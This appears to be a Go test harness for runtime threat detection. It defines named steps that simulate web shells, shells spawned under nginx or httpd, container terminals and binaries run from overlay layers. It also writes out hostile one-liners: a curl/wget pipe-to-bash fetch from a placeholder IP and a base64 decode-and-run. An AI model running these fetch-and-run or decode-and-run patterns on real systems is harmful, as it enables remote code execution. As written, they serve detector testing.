// SPDX-License-Identifier: Apache-2.0

package main

import (
	"fmt"
	"os"
	"os/exec"
	"syscall"
	"unsafe"

	"golang.org/x/sys/unix"
)

func init() {
	mnt := []string{"/mnt"}
	provide(map[string]step{
		"spawn-shell":             {run: command("sh", "-c", "exit 0")},
		"spawn-shell-by-server":   {run: as("nginx", "spawn-shell")},
		"shell-of-shell":          {run: command("bash", "-c", "sh -c 'exit 0'; true")},
		"shell-of-tool":           {run: command("timeout", "5", "sh", "-c", "exit 0")},
		"shell-that-is-not-there": {run: refused(command("/nonexistent/sh", "-c", "exit 0"))},
		"web-shell":               {run: as("httpd", "spawn-shell")},

		"run-id":                           {run: command("id")},
		"run-id-by-shell":                  {run: command("sh", "-c", "id; true")},
		"tool-below-server":                {run: as("nginx", "run-id")},
		"tool-below-shell-of-server":       {run: as("nginx", "run-id-by-shell")},
		"tool-below-shell":                 {run: command("sh", "-c", "id; true")},
		"fetch-and-run":                    {run: named("sh", "-c", "(curl -fsSL http://203.0.113.7/x || wget -qO- http://203.0.113.7/x) | bash")},
		"decode-and-run":                   {run: named("bash", "-c", "echo aWQK | base64 -d | sh")},
		"fetch-only":                       {run: named("sh", "-c", "curl -s http://203.0.113.7/x | sha256sum")},
		"dropped-below-server":             {run: as("nginx", "ordinary-exec-of-file")},
		"ordinary-exec-of-file":            {run: as("provoked", "nothing")},
		"upload-below-server":              {run: as("nginx", "curl-upload")},
		"container-terminal":               {run: onTerminal("bash", "-c", "exit 0"), contained: true},
		"terminal-on-host":                 {run: onTerminal("bash", "-c", "exit 0")},
		"container-shell-without-terminal": {run: withoutTerminal("bash", "-c", "exit 0"), contained: true},

		"container-run-added-program":    {run: onOverlay("upper"), contained: true, isolated: true, empty: mnt},
		"container-run-program-of-image": {run: onOverlay("lower"), contained: true, isolated: true, empty: mnt},

		"container-run-apk": {run: as("apk", "nothing"), contained: true},
		"run-apk-on-host":   {run: as("apk", "nothing")},
	})
}

// onTerminal is a step that runs a program with a terminal of its own.
func onTerminal(name string, args ...string) func() error {
	return func() error {
		master, err := os.OpenFile("/dev/ptmx", os.O_RDWR|unix.O_NOCTTY, 0)
		if err != nil {
			return err
		}
		defer master.Close()
		unlocked := int32(0)
		if _, _, errno := unix.Syscall(unix.SYS_IOCTL, master.Fd(), unix.TIOCSPTLCK, uintptr(unsafe.Pointer(&unlocked))); errno != 0 {
			return errno
		}
		number, err := unix.IoctlGetInt(int(master.Fd()), unix.TIOCGPTN)
		if err != nil {
			return err
		}
		slave, err := os.OpenFile(fmt.Sprintf("/dev/pts/%d", number), os.O_RDWR|unix.O_NOCTTY, 0)
		if err != nil {
			return err
		}
		defer slave.Close()
		cmd := exec.Command(name, args...)
		cmd.Stdin, cmd.Stdout, cmd.Stderr = slave, slave, slave
		cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true}
		return cmd.Run()
	}
}

// withoutTerminal is a step that runs a program in a session of its own.
func withoutTerminal(name string, args ...string) func() error {
	return func() error {
		cmd := exec.Command(name, args...)
		cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
		return cmd.Run()
	}
}

// onOverlay is a step that runs a program from a layer of an overlay, as
// containers have them: what lies in the upper one came after the image.
func onOverlay(layer string) func() error {
	return func() error {
		for _, dir := range []string{"lower", "upper", "work", "root"} {
			if err := os.Mkdir("/mnt/"+dir, 0o755); err != nil {
				return err
			}
		}
		program, err := os.ReadFile("/bin/true")
		if err != nil {
			return err
		}
		if err := os.WriteFile("/mnt/"+layer+"/provoked", program, 0o755); err != nil {
			return err
		}
		if err := unix.Mount("overlay", "/mnt/root", "overlay", 0, "lowerdir=/mnt/lower,upperdir=/mnt/upper,workdir=/mnt/work"); err != nil {
			return fmt.Errorf("mount an overlay: %w", err)
		}
		return exec.Command("/mnt/root/provoked").Run()
	}
}
